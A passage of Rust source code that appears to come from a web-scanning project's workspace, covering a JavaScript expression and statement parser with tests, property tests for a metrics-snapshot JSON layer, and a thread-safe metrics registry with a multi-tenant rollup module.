            && matches!(self.tokens.get(self.pos + 1), Some(Token::Ident(_)))
            && matches!(self.tokens.get(self.pos + 2), Some(Token::Ident(kw)) if kw == "in")
        {
            self.pos += 1; // var/let
            let var = self.expect_ident()?;
            self.pos += 1; // in
            let object = self.expression()?;
            self.expect_punct(")")?;
            let body = self.stmt_as_block()?;
            return Ok(Stmt::ForIn { var, object, body });
        }
        let init = if self.eat_punct(";") {
            None
        } else if self.eat_keyword("var") || self.eat_keyword("let") {
            Some(Box::new(self.var_statement()?))
        } else {
            let e = self.expression()?;
            self.expect_punct(";")?;
            Some(Box::new(Stmt::Expr(e)))
        };
        let cond = if self.eat_punct(";") {
            None
        } else {
            let c = self.expression()?;
            self.expect_punct(";")?;
            Some(c)
        };
        let update = if matches!(self.peek(), Some(Token::Punct(")"))) {
            None
        } else {
            Some(self.expression()?)
        };
        self.expect_punct(")")?;
        let body = self.stmt_as_block()?;
        Ok(Stmt::For { init, cond, update, body })
    }

    fn switch_statement(&mut self) -> Result<Stmt, JsError> {
        self.expect_punct("(")?;
        let disc = self.expression()?;
        self.expect_punct(")")?;
        self.expect_punct("{")?;
        let mut cases: Vec<(Expr, Vec<Stmt>)> = Vec::new();
        let mut default: Option<Vec<Stmt>> = None;
        loop {
            if self.eat_punct("}") {
                break;
            }
            if self.at_end() {
                return Err(JsError::Parse("unterminated switch".into()));
            }
            if self.eat_keyword("case") {
                let test = self.expression()?;
                self.expect_punct(":")?;
                cases.push((test, self.case_body()?));
            } else if self.eat_keyword("default") {
                self.expect_punct(":")?;
                default = Some(self.case_body()?);
            } else {
                return Err(JsError::Parse(format!(
                    "expected case/default, found {:?}",
                    self.peek()
                )));
            }
        }
        Ok(Stmt::Switch { disc, cases, default })
    }

    /// Statements of one switch arm: up to the next `case`/`default`/`}`.
    fn case_body(&mut self) -> Result<Vec<Stmt>, JsError> {
        let mut body = Vec::new();
        loop {
            match self.peek() {
                None => return Err(JsError::Parse("unterminated switch arm".into())),
                Some(Token::Punct("}")) => return Ok(body),
                Some(Token::Ident(kw)) if kw == "case" || kw == "default" => return Ok(body),
                _ => body.push(self.statement()?),
            }
        }
    }

    fn try_statement(&mut self) -> Result<Stmt, JsError> {
        let body = self.stmt_as_block()?;
        if !self.eat_keyword("catch") {
            return Err(JsError::Parse("try without catch".into()));
        }
        self.expect_punct("(")?;
        let param = self.expect_ident()?;
        self.expect_punct(")")?;
        let handler = self.stmt_as_block()?;
        Ok(Stmt::TryCatch(body, param, handler))
    }

    /// Parses either a braced block or a single statement, normalizing to
    /// a statement list.
    fn stmt_as_block(&mut self) -> Result<Vec<Stmt>, JsError> {
        match self.statement()? {
            Stmt::Block(body) => Ok(body),
            single => Ok(vec![single]),
        }
    }

    fn function_rest(&mut self) -> Result<(Vec<String>, Vec<Stmt>), JsError> {
        self.expect_punct("(")?;
        let mut params = Vec::new();
        if !self.eat_punct(")") {
            loop {
                params.push(self.expect_ident()?);
                if self.eat_punct(")") {
                    break;
                }
                self.expect_punct(",")?;
            }
        }
        self.expect_punct("{")?;
        let mut body = Vec::new();
        while !self.eat_punct("}") {
            if self.at_end() {
                return Err(JsError::Parse("unterminated function body".into()));
            }
            body.push(self.statement()?);
        }
        Ok((params, body))
    }

    // ---- expressions (precedence climbing) ----------------------------

    fn expression(&mut self) -> Result<Expr, JsError> {
        // Comma operator: evaluate both, keep the last.
        let mut e = self.assignment()?;
        while self.eat_punct(",") {
            let rhs = self.assignment()?;
            // Model `a, b` as a ternary on `true` keeping evaluation
            // order: ((a && false) || true) ? b : b would be convoluted;
            // instead wrap in a two-element array and index the second.
            e = Expr::Index(
                Box::new(Expr::Array(vec![e, rhs])),
                Box::new(Expr::Num(1.0)),
            );
        }
        Ok(e)
    }

    fn assignment(&mut self) -> Result<Expr, JsError> {
        let lhs = self.ternary()?;
        if self.eat_punct("=") {
            let rhs = self.assignment()?;
            return Ok(Expr::Assign(Box::new(lhs), Box::new(rhs)));
        }
        for (p, op) in
            [("+=", BinOp::Add), ("-=", BinOp::Sub), ("*=", BinOp::Mul), ("/=", BinOp::Div), ("%=", BinOp::Mod)]
        {
            if self.eat_punct(p) {
                let rhs = self.assignment()?;
                return Ok(Expr::AssignOp(op, Box::new(lhs), Box::new(rhs)));
            }
        }
        Ok(lhs)
    }

    fn ternary(&mut self) -> Result<Expr, JsError> {
        let cond = self.logical_or()?;
        if self.eat_punct("?") {
            let t = self.assignment()?;
            self.expect_punct(":")?;
            let f = self.assignment()?;
            return Ok(Expr::Ternary(Box::new(cond), Box::new(t), Box::new(f)));
        }
        Ok(cond)
    }

    fn logical_or(&mut self) -> Result<Expr, JsError> {
        let mut lhs = self.logical_and()?;
        while self.eat_punct("||") {
            let rhs = self.logical_and()?;
            lhs = Expr::Binary(BinOp::Or, Box::new(lhs), Box::new(rhs));
        }
        Ok(lhs)
    }

    fn logical_and(&mut self) -> Result<Expr, JsError> {
        let mut lhs = self.equality()?;
        while self.eat_punct("&&") {
            let rhs = self.equality()?;
            lhs = Expr::Binary(BinOp::And, Box::new(lhs), Box::new(rhs));
        }
        Ok(lhs)
    }

    fn equality(&mut self) -> Result<Expr, JsError> {
        let mut lhs = self.relational()?;
        loop {
            let op = if self.eat_punct("===") {
                BinOp::StrictEq
            } else if self.eat_punct("!==") {
                BinOp::StrictNe
            } else if self.eat_punct("==") {
                BinOp::Eq
            } else if self.eat_punct("!=") {
                BinOp::Ne
            } else {
                return Ok(lhs);
            };
            let rhs = self.relational()?;
            lhs = Expr::Binary(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn relational(&mut self) -> Result<Expr, JsError> {
        let mut lhs = self.additive()?;
        loop {
            let op = if self.eat_punct("<=") {
                BinOp::Le
            } else if self.eat_punct(">=") {
                BinOp::Ge
            } else if self.eat_punct("<") {
                BinOp::Lt
            } else if self.eat_punct(">") {
                BinOp::Gt
            } else {
                return Ok(lhs);
            };
            let rhs = self.additive()?;
            lhs = Expr::Binary(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn additive(&mut self) -> Result<Expr, JsError> {
        let mut lhs = self.multiplicative()?;
        loop {
            let op = if self.eat_punct("+") {
                BinOp::Add
            } else if self.eat_punct("-") {
                BinOp::Sub
            } else {
                return Ok(lhs);
            };
            let rhs = self.multiplicative()?;
            lhs = Expr::Binary(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn multiplicative(&mut self) -> Result<Expr, JsError> {
        let mut lhs = self.unary()?;
        loop {
            let op = if self.eat_punct("*") {
                BinOp::Mul
            } else if self.eat_punct("/") {
                BinOp::Div
            } else if self.eat_punct("%") {
                BinOp::Mod
            } else {
                return Ok(lhs);
            };
            let rhs = self.unary()?;
            lhs = Expr::Binary(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn unary(&mut self) -> Result<Expr, JsError> {
        if self.eat_punct("!") {
            return Ok(Expr::Unary(UnOp::Not, Box::new(self.unary()?)));
        }
        if self.eat_punct("-") {
            return Ok(Expr::Unary(UnOp::Neg, Box::new(self.unary()?)));
        }
        if self.eat_punct("+") {
            return Ok(Expr::Unary(UnOp::Pos, Box::new(self.unary()?)));
        }
        if self.eat_keyword("typeof") {
            return Ok(Expr::Unary(UnOp::TypeOf, Box::new(self.unary()?)));
        }
        if self.eat_keyword("new") {
            let callee = self.postfix_base()?;
            // `new X(...)` — arguments already consumed by postfix if the
            // callee ended in a call; normalize.
            if let Expr::Call(target, args) = callee {
                return Ok(Expr::New(target, args));
            }
            return Ok(Expr::New(Box::new(callee), Vec::new()));
        }
        self.postfix_base()
    }

    /// Primary expression followed by any number of postfix operations
    /// (member access, indexing, calls, `++`/`--`).
    fn postfix_base(&mut self) -> Result<Expr, JsError> {
        let mut e = self.primary()?;
        loop {
            if self.eat_punct(".") {
                let name = self.expect_ident()?;
                e = Expr::Member(Box::new(e), name);
            } else if self.eat_punct("[") {
                let idx = self.expression()?;
                self.expect_punct("]")?;
                e = Expr::Index(Box::new(e), Box::new(idx));
            } else if self.eat_punct("(") {
                let mut args = Vec::new();
                if !self.eat_punct(")") {
                    loop {
                        args.push(self.assignment()?);
                        if self.eat_punct(")") {
                            break;
                        }
                        self.expect_punct(",")?;
                    }
                }
                e = Expr::Call(Box::new(e), args);
            } else if self.eat_punct("++") {
                e = Expr::PostIncr(Box::new(e));
            } else if self.eat_punct("--") {
                e = Expr::PostDecr(Box::new(e));
            } else {
                return Ok(e);
            }
        }
    }

    fn primary(&mut self) -> Result<Expr, JsError> {
        match self.advance() {
            Some(Token::Num(n)) => Ok(Expr::Num(n)),
            Some(Token::Str(s)) => Ok(Expr::Str(s)),
            Some(Token::Ident(i)) => match i.as_str() {
                "true" => Ok(Expr::Bool(true)),
                "false" => Ok(Expr::Bool(false)),
                "null" => Ok(Expr::Null),
                "undefined" => Ok(Expr::Undefined),
                "function" => {
                    let name = match self.peek() {
                        Some(Token::Ident(n)) => {
                            let n = n.clone();
                            self.pos += 1;
                            Some(n)
                        }
                        _ => None,
                    };
                    let (params, body) = self.function_rest()?;
                    Ok(Expr::Function { name, params, body })
                }
                _ => Ok(Expr::Ident(i)),
            },
            Some(Token::Punct("(")) => {
                let e = self.expression()?;
                self.expect_punct(")")?;
                Ok(e)
            }
            Some(Token::Punct("[")) => {
                let mut items = Vec::new();
                if !self.eat_punct("]") {
                    loop {
                        items.push(self.assignment()?);
                        if self.eat_punct("]") {
                            break;
                        }
                        self.expect_punct(",")?;
                    }
                }
                Ok(Expr::Array(items))
            }
            Some(Token::Punct("{")) => {
                let mut props = Vec::new();
                if !self.eat_punct("}") {
                    loop {
                        let key = match self.advance() {
                            Some(Token::Ident(i)) => i,
                            Some(Token::Str(s)) => s,
                            Some(Token::Num(n)) => format!("{n}"),
                            other => {
                                return Err(JsError::Parse(format!(
                                    "bad object key: {other:?}"
                                )))
                            }
                        };
                        self.expect_punct(":")?;
                        let value = self.assignment()?;
                        props.push((key, value));
                        if self.eat_punct("}") {
                            break;
                        }
                        self.expect_punct(",")?;
                        // Trailing comma.
                        if self.eat_punct("}") {
                            break;
                        }
                    }
                }
                Ok(Expr::Object(props))
            }
            other => Err(JsError::Parse(format!("unexpected token {other:?}"))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ast::{BinOp, Expr, Stmt};

    #[test]
    fn var_with_init() {
        let p = parse_program("var x = 1 + 2;").unwrap();
        match &p[0] {
            Stmt::Var(decls) => {
                assert_eq!(decls[0].0, "x");
                assert!(matches!(
                    decls[0].1,
                    Some(Expr::Binary(BinOp::Add, _, _))
                ));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn precedence_mul_over_add() {
        let p = parse_program("a + b * c").unwrap();
        match &p[0] {
            Stmt::Expr(Expr::Binary(BinOp::Add, _, rhs)) => {
                assert!(matches!(**rhs, Expr::Binary(BinOp::Mul, _, _)));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn member_call_chain() {
        let p = parse_program("document.getElementById('x').style.display = 'none';").unwrap();
        assert!(matches!(&p[0], Stmt::Expr(Expr::Assign(_, _))));
    }

    #[test]
    fn function_declaration_and_expression() {
        let p = parse_program("function f(a, b) { return a + b; } var g = function() {};")
            .unwrap();
        assert!(matches!(&p[0], Stmt::Function { name, .. } if name == "f"));
        match &p[1] {
            Stmt::Var(d) => assert!(matches!(d[0].1, Some(Expr::Function { .. }))),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn iife_parses() {
        let p = parse_program("(function(w, d) { w.x = d; })(window, document);").unwrap();
        assert!(matches!(&p[0], Stmt::Expr(Expr::Call(_, args)) if args.len() == 2));
    }

    #[test]
    fn for_loop_full_header() {
        let p = parse_program("for (var i = 0; i < 10; i++) { x += i; }").unwrap();
        match &p[0] {
            Stmt::For { init, cond, update, body } => {
                assert!(init.is_some());
                assert!(cond.is_some());
                assert!(update.is_some());
                assert_eq!(body.len(), 1);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn if_else_chain() {
        let p = parse_program("if (a) b(); else if (c) d(); else e();").unwrap();
        assert!(matches!(&p[0], Stmt::If(_, _, Some(_))));
    }

    #[test]
    fn ternary_and_logical() {
        let p = parse_program("var r = a && b ? c : d || e;").unwrap();
        assert!(matches!(&p[0], Stmt::Var(_)));
    }

    #[test]
    fn object_and_array_literals() {
        let p = parse_program("var o = {a: 1, 'b': [1, 2, 3], 4: 'x',};").unwrap();
        match &p[0] {
            Stmt::Var(d) => match &d[0].1 {
                Some(Expr::Object(props)) => assert_eq!(props.len(), 3),
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn new_expression() {
        let p = parse_program("var d = new Date();").unwrap();
        match &p[0] {
            Stmt::Var(d) => assert!(matches!(d[0].1, Some(Expr::New(_, _)))),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn try_catch() {
        let p = parse_program("try { risky(); } catch (e) { handle(e); }").unwrap();
        assert!(matches!(&p[0], Stmt::TryCatch(_, param, _) if param == "e"));
    }

    #[test]
    fn comma_operator() {
        let p = parse_program("a = (b = 1, c = 2);").unwrap();
        assert_eq!(p.len(), 1);
    }

    #[test]
    fn unterminated_block_errors() {
        assert!(parse_program("{ a();").is_err());
    }

    #[test]
    fn garbage_errors_without_panic() {
        assert!(parse_program(")]}").is_err());
        assert!(parse_program("var = ;").is_err());
    }

    #[test]
    fn keywords_as_member_names_allowed() {
        // `obj.var` style access occurs in minified code.
        let p = parse_program("x.var = 1;");
        assert!(p.is_ok());
    }
}
