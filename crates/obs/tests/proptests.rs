//! Property tests for the hand-rolled snapshot JSON layer: the writer
//! (`json::write_escaped`, `MetricsSnapshot::to_json`) and the
//! recursive-descent parser must be exact inverses over *arbitrary*
//! metric names and the full value ranges — metric names come from
//! scan-label families like `scan.labels.vt.Trojan:JS/Redirector` and
//! are adversarial by assumption (labels embed quotes, backslashes and
//! control characters from hostile page content).

use std::collections::BTreeMap;
use std::time::Duration;

use proptest::collection::vec;
use proptest::prelude::*;
use slum_obs::histogram::HistogramSnapshot;
use slum_obs::json::{self, Value};
use slum_obs::{MetricsSnapshot, Registry, SpanSnapshot};

/// Arbitrary metric names over the whole Latin-1 range: includes every
/// ASCII control character (escape sequences), quotes, backslashes and
/// non-ASCII text. Built from bytes because regex strategies cannot
/// spell control characters.
fn name_strategy() -> impl Strategy<Value = String> {
    vec(any::<u8>(), 0..16)
        .prop_map(|bytes| bytes.into_iter().map(char::from).collect::<String>())
}

/// Arbitrary unicode names: scalar values across all planes, surrogate
/// range folded back into BMP text.
fn unicode_name_strategy() -> impl Strategy<Value = String> {
    vec(any::<u32>(), 0..8).prop_map(|codes| {
        codes
            .into_iter()
            .map(|c| char::from_u32(c % 0x11_0000).unwrap_or('\u{fffd}'))
            .collect::<String>()
    })
}

fn snapshot_from_parts(
    counters: Vec<(String, u64)>,
    gauges: Vec<(String, i64)>,
    histogram_names: Vec<String>,
    histogram_samples: Vec<u64>,
    spans: Vec<(String, u64)>,
) -> MetricsSnapshot {
    let mut snapshot = MetricsSnapshot::default();
    snapshot.counters = counters.into_iter().collect();
    snapshot.gauges = gauges.into_iter().collect();
    for name in histogram_names {
        // A histogram with real bucket structure: record the sample
        // values through the actual histogram type so bucket bounds are
        // the ones production snapshots carry (incl. the u64::MAX
        // top bucket).
        let registry = Registry::new();
        for v in &histogram_samples {
            registry.histogram("h").record(*v);
        }
        let h = registry
            .snapshot()
            .histograms
            .get("h")
            .cloned()
            .unwrap_or(HistogramSnapshot { count: 0, sum: 0, buckets: Vec::new() });
        snapshot.histograms.insert(name, h);
    }
    snapshot.spans =
        spans.into_iter().map(|(name, nanos)| SpanSnapshot { name, nanos }).collect();
    snapshot
}

proptest! {
    /// Escaping any Latin-1 string (controls, quotes, backslashes)
    /// parses back to the identical string.
    #[test]
    fn escaped_strings_round_trip(name in name_strategy()) {
        let mut doc = String::new();
        json::write_escaped(&mut doc, &name);
        prop_assert_eq!(json::parse(&doc).unwrap().as_str(), Some(name.as_str()));
    }

    /// Same for arbitrary unicode scalar values across all planes.
    #[test]
    fn unicode_strings_round_trip(name in unicode_name_strategy()) {
        let mut doc = String::new();
        json::write_escaped(&mut doc, &name);
        prop_assert_eq!(json::parse(&doc).unwrap().as_str(), Some(name.as_str()));
    }

    /// Full snapshots — hostile names in every table, extreme counter
    /// and gauge values (u64::MAX, i64::MIN), real histogram buckets,
    /// repeated span names — survive to_json/from_json bit-for-bit.
    #[test]
    fn snapshot_round_trip_is_lossless(
        counters in vec((name_strategy(), any::<u64>()), 0..6),
        gauges in vec((unicode_name_strategy(), any::<i64>()), 0..4),
        histogram_names in vec(name_strategy(), 0..3),
        histogram_samples in vec(any::<u64>(), 0..10),
        spans in vec((name_strategy(), any::<u64>()), 0..4),
    ) {
        // Pin the extremes alongside the random draws.
        let mut counters = counters;
        counters.push(("max".to_string(), u64::MAX));
        let snapshot = snapshot_from_parts(
            counters, gauges, histogram_names, histogram_samples, spans,
        );
        let parsed = MetricsSnapshot::from_json(&snapshot.to_json()).unwrap();
        prop_assert_eq!(parsed, snapshot);
    }

    /// An empty registry's snapshot round-trips (the writer's empty
    /// object/array forms are parseable).
    #[test]
    fn empty_registry_round_trips(_nothing in any::<bool>()) {
        let snapshot = Registry::new().snapshot();
        prop_assert_eq!(snapshot.counters.len(), 0);
        let parsed = MetricsSnapshot::from_json(&snapshot.to_json()).unwrap();
        prop_assert_eq!(parsed, snapshot);
    }

    /// The parser is total: arbitrary bytes either parse or error, no
    /// panics — and whatever parses re-serializes to something that
    /// parses to the same value (writer/parser agreement on the whole
    /// value domain, not just snapshot-shaped documents).
    #[test]
    fn parser_is_total_and_reprint_agrees(input in name_strategy()) {
        if let Ok(value) = json::parse(&input) {
            let reprinted = print_value(&value);
            prop_assert_eq!(json::parse(&reprinted).unwrap(), value);
        }
    }
}

/// Serializes a parsed [`Value`] back to JSON with the writer's own
/// escaping rules.
fn print_value(value: &Value) -> String {
    fn go(value: &Value, out: &mut String) {
        match value {
            Value::Object(map) => {
                out.push('{');
                for (i, (k, v)) in map.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    json::write_escaped(out, k);
                    out.push(':');
                    go(v, out);
                }
                out.push('}');
            }
            Value::Array(items) => {
                out.push('[');
                for (i, v) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    go(v, out);
                }
                out.push(']');
            }
            Value::String(s) => json::write_escaped(out, s),
            Value::Int(i) => out.push_str(&i.to_string()),
        }
    }
    let mut out = String::new();
    go(value, &mut out);
    out
}

/// Regression pins for divergences the property hunt surfaced (kept as
/// plain tests so they run even with `PROPTEST_CASES=0`).
mod regressions {
    use super::*;

    /// `u32::from_str_radix` accepts a leading `+`, so the `\u` escape
    /// parser used to accept `\u+1ff` (three digits and a sign) as
    /// U+01FF instead of rejecting it.
    #[test]
    fn unicode_escape_requires_four_hex_digits() {
        assert!(json::parse(r#""\u+1ff""#).is_err());
        assert!(json::parse(r#""\u-1ff""#).is_err());
        assert_eq!(json::parse(r#""ǿ""#).unwrap().as_str(), Some("\u{1ff}"));
    }

    /// Control characters below 0x20 that lack a shorthand escape are
    /// written as `\u00XX` and parse back.
    #[test]
    fn bare_control_chars_round_trip() {
        let name: String = (0u8..0x20).map(char::from).collect();
        let mut doc = String::new();
        json::write_escaped(&mut doc, &name);
        assert!(!doc.bytes().any(|b| b < 0x20), "controls must be escaped");
        assert_eq!(json::parse(&doc).unwrap().as_str(), Some(name.as_str()));
    }

    /// The extreme numeric corners of every table survive.
    #[test]
    fn extreme_values_round_trip() {
        let mut snapshot = MetricsSnapshot::default();
        snapshot.counters.insert("c".to_string(), u64::MAX);
        snapshot.gauges.insert("g".to_string(), i64::MIN);
        snapshot.gauges.insert("g2".to_string(), i64::MAX);
        let mut counts: BTreeMap<String, u64> = BTreeMap::new();
        counts.insert("h".to_string(), 1);
        let registry = Registry::new();
        registry.histogram("h").record(u64::MAX);
        snapshot.histograms = registry.snapshot().histograms;
        registry.record_span("s", Duration::from_nanos(u64::MAX / 2));
        snapshot.spans = registry.snapshot().spans;
        let parsed = MetricsSnapshot::from_json(&snapshot.to_json()).unwrap();
        assert_eq!(parsed, snapshot);
    }
}
