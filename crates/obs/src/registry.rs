//! The metrics registry: named counters, gauges, histograms and spans.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::histogram::Histogram;
use crate::local::LocalMetrics;
use crate::snapshot::{MetricsSnapshot, SpanSnapshot};

/// A monotonic counter handle. Cloning is cheap (an `Arc` bump); all
/// clones observe the same value.
#[derive(Debug, Clone)]
pub struct Counter(Arc<AtomicU64>);

impl Counter {
    /// Adds one.
    pub fn inc(&self) {
        self.add(1);
    }

    /// Adds `n`.
    pub fn add(&self, n: u64) {
        self.0.fetch_add(n, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// A settable gauge handle (last-write-wins).
#[derive(Debug, Clone)]
pub struct Gauge(Arc<AtomicI64>);

impl Gauge {
    /// Sets the value.
    pub fn set(&self, v: i64) {
        self.0.store(v, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> i64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// One completed span: a named wall-clock measurement.
#[derive(Debug, Clone)]
struct SpanRecord {
    name: String,
    nanos: u64,
}

/// The registry: a `Send + Sync` home for every named metric of one
/// pipeline run.
///
/// Metric handles ([`Counter`], [`Gauge`], [`Histogram`]) are created
/// on first use and live as long as the registry; looking one up takes
/// a short mutex on the name table, so hot paths should either hold a
/// handle or batch increments in a [`LocalMetrics`] buffer and merge
/// once per phase ([`Registry::merge_local`]).
#[derive(Debug, Default)]
pub struct Registry {
    counters: Mutex<BTreeMap<String, Arc<AtomicU64>>>,
    gauges: Mutex<BTreeMap<String, Arc<AtomicI64>>>,
    histograms: Mutex<BTreeMap<String, Arc<Histogram>>>,
    spans: Mutex<Vec<SpanRecord>>,
}

impl Registry {
    /// Creates an empty registry.
    pub fn new() -> Self {
        Registry::default()
    }

    /// The counter named `name`, created at zero on first use.
    pub fn counter(&self, name: &str) -> Counter {
        let mut table = self.counters.lock().expect("counter table poisoned");
        match table.get(name) {
            Some(c) => Counter(Arc::clone(c)),
            None => {
                let cell = Arc::new(AtomicU64::new(0));
                table.insert(name.to_string(), Arc::clone(&cell));
                Counter(cell)
            }
        }
    }

    /// The gauge named `name`, created at zero on first use.
    pub fn gauge(&self, name: &str) -> Gauge {
        let mut table = self.gauges.lock().expect("gauge table poisoned");
        match table.get(name) {
            Some(g) => Gauge(Arc::clone(g)),
            None => {
                let cell = Arc::new(AtomicI64::new(0));
                table.insert(name.to_string(), Arc::clone(&cell));
                Gauge(cell)
            }
        }
    }

    /// The histogram named `name`, created empty on first use.
    pub fn histogram(&self, name: &str) -> Arc<Histogram> {
        let mut table = self.histograms.lock().expect("histogram table poisoned");
        match table.get(name) {
            Some(h) => Arc::clone(h),
            None => {
                let cell = Arc::new(Histogram::new());
                table.insert(name.to_string(), Arc::clone(&cell));
                cell
            }
        }
    }

    /// Starts a named span; the wall-clock duration is recorded when
    /// the returned guard drops (or [`SpanGuard::finish`] is called).
    pub fn span(&self, name: &str) -> SpanGuard<'_> {
        SpanGuard { registry: self, name: name.to_string(), started: Instant::now() }
    }

    /// Records a completed span measured externally.
    pub fn record_span(&self, name: &str, elapsed: Duration) {
        let nanos = u64::try_from(elapsed.as_nanos()).unwrap_or(u64::MAX);
        self.spans
            .lock()
            .expect("span table poisoned")
            .push(SpanRecord { name: name.to_string(), nanos });
    }

    /// Adds every counter delta in a per-worker buffer to this registry.
    pub fn merge_local(&self, local: &LocalMetrics) {
        for (name, delta) in local.iter() {
            self.counter(name).add(delta);
        }
    }

    /// Folds a whole snapshot into this registry: counters add, gauges
    /// set (last-write-wins, like [`Gauge::set`]), histogram buckets
    /// add element-wise, spans append. The slum-serve global rollup
    /// aggregates per-tenant snapshots this way.
    pub fn absorb(&self, snap: &MetricsSnapshot) {
        for (name, v) in &snap.counters {
            self.counter(name).add(*v);
        }
        for (name, v) in &snap.gauges {
            self.gauge(name).set(*v);
        }
        for (name, h) in &snap.histograms {
            self.histogram(name).absorb(h);
        }
        for s in &snap.spans {
            self.record_span(&s.name, Duration::from_nanos(s.nanos));
        }
    }

    /// An immutable, ordered view of every metric.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let counters = self
            .counters
            .lock()
            .expect("counter table poisoned")
            .iter()
            .map(|(name, c)| (name.clone(), c.load(Ordering::Relaxed)))
            .collect();
        let gauges = self
            .gauges
            .lock()
            .expect("gauge table poisoned")
            .iter()
            .map(|(name, g)| (name.clone(), g.load(Ordering::Relaxed)))
            .collect();
        let histograms = self
            .histograms
            .lock()
            .expect("histogram table poisoned")
            .iter()
            .map(|(name, h)| (name.clone(), h.snapshot()))
            .collect();
        let spans = self
            .spans
            .lock()
            .expect("span table poisoned")
            .iter()
            .map(|s| SpanSnapshot { name: s.name.clone(), nanos: s.nanos })
            .collect();
        MetricsSnapshot { counters, gauges, histograms, spans }
    }
}

/// Guard for an in-flight [`Registry::span`]; records the elapsed
/// wall-clock into the registry when dropped.
#[derive(Debug)]
pub struct SpanGuard<'r> {
    registry: &'r Registry,
    name: String,
    started: Instant,
}

impl SpanGuard<'_> {
    /// Ends the span now, returning the measured duration.
    pub fn finish(self) -> Duration {
        // Dropping does the recording; read the clock first so the
        // returned duration matches what lands in the registry closely.
        self.started.elapsed()
    }
}

impl Drop for SpanGuard<'_> {
    fn drop(&mut self) {
        self.registry.record_span(&self.name, self.started.elapsed());
    }
}

// Compile-time audit: the registry is shared by reference across scan
// and crawl worker threads.
const _: () = {
    const fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Registry>();
    assert_send_sync::<Counter>();
    assert_send_sync::<Gauge>();
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counters_are_shared_by_name() {
        let r = Registry::new();
        r.counter("a").inc();
        r.counter("a").add(2);
        assert_eq!(r.counter("a").get(), 3);
        assert_eq!(r.counter("b").get(), 0);
    }

    #[test]
    fn gauges_last_write_wins() {
        let r = Registry::new();
        r.gauge("g").set(5);
        r.gauge("g").set(-2);
        assert_eq!(r.gauge("g").get(), -2);
    }

    #[test]
    fn spans_record_on_drop() {
        let r = Registry::new();
        {
            let _s = r.span("phase.test");
        }
        r.record_span("phase.manual", Duration::from_nanos(42));
        let snap = r.snapshot();
        assert_eq!(snap.spans.len(), 2);
        assert_eq!(snap.spans[0].name, "phase.test");
        assert_eq!(snap.spans[1].nanos, 42);
    }

    #[test]
    fn merge_local_adds_deltas() {
        let r = Registry::new();
        r.counter("x").add(1);
        let mut local = LocalMetrics::new();
        local.add("x", 2);
        local.add("y", 7);
        r.merge_local(&local);
        assert_eq!(r.counter("x").get(), 3);
        assert_eq!(r.counter("y").get(), 7);
    }

    #[test]
    fn concurrent_counter_increments_are_lossless() {
        let r = Registry::new();
        std::thread::scope(|scope| {
            for _ in 0..8 {
                scope.spawn(|| {
                    let c = r.counter("hot");
                    for _ in 0..10_000 {
                        c.inc();
                    }
                });
            }
        });
        assert_eq!(r.counter("hot").get(), 80_000);
    }

    #[test]
    fn snapshot_is_ordered_and_complete() {
        let r = Registry::new();
        r.counter("z").inc();
        r.counter("a").inc();
        r.histogram("h").record(10);
        let snap = r.snapshot();
        let names: Vec<&str> = snap.counters.keys().map(String::as_str).collect();
        assert_eq!(names, vec!["a", "z"]);
        assert_eq!(snap.histograms["h"].count, 1);
    }
}
