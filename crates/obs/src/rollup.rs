//! Multi-tenant registry namespacing and the global rollup.
//!
//! A long-lived service (the slum-serve daemon) runs many studies, each
//! with its own private [`Registry`]. [`TenantRegistries`] is the
//! service-side home for those: one registry per tenant, created on
//! first use, plus a [`TenantRegistries::global_snapshot`] that exposes
//! every tenant's metrics under a `tenant.<name>.` prefix *and* a bare
//! cross-tenant rollup (counters and histograms summed; gauges are
//! last-write-wins state, so they stay namespaced-only — summing two
//! tenants' `scan.workers` would mean nothing).

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use crate::histogram::{Histogram, HistogramSnapshot};
use crate::registry::Registry;
use crate::snapshot::{MetricsSnapshot, SpanSnapshot};

/// One metrics registry per tenant, plus the cross-tenant rollup view.
#[derive(Debug, Default)]
pub struct TenantRegistries {
    tenants: Mutex<BTreeMap<String, Arc<Registry>>>,
}

impl TenantRegistries {
    /// Creates an empty tenant table.
    pub fn new() -> Self {
        TenantRegistries::default()
    }

    /// The registry of tenant `name`, created empty on first use.
    pub fn tenant(&self, name: &str) -> Arc<Registry> {
        let mut table = self.tenants.lock().expect("tenant table poisoned");
        match table.get(name) {
            Some(r) => Arc::clone(r),
            None => {
                let registry = Arc::new(Registry::new());
                table.insert(name.to_string(), Arc::clone(&registry));
                registry
            }
        }
    }

    /// Folds a finished study's metrics snapshot into tenant `name`'s
    /// registry (see [`Registry::absorb`]).
    pub fn absorb(&self, name: &str, snap: &MetricsSnapshot) {
        self.tenant(name).absorb(snap);
    }

    /// Tenant names, sorted.
    pub fn names(&self) -> Vec<String> {
        self.tenants.lock().expect("tenant table poisoned").keys().cloned().collect()
    }

    /// One snapshot over every tenant: each metric appears namespaced
    /// as `tenant.<name>.<metric>`, and counters/histograms additionally
    /// roll up under their bare name (summed across tenants). Spans are
    /// namespaced only; gauges are namespaced only (see module docs).
    pub fn global_snapshot(&self) -> MetricsSnapshot {
        let per_tenant: Vec<(String, MetricsSnapshot)> = self
            .tenants
            .lock()
            .expect("tenant table poisoned")
            .iter()
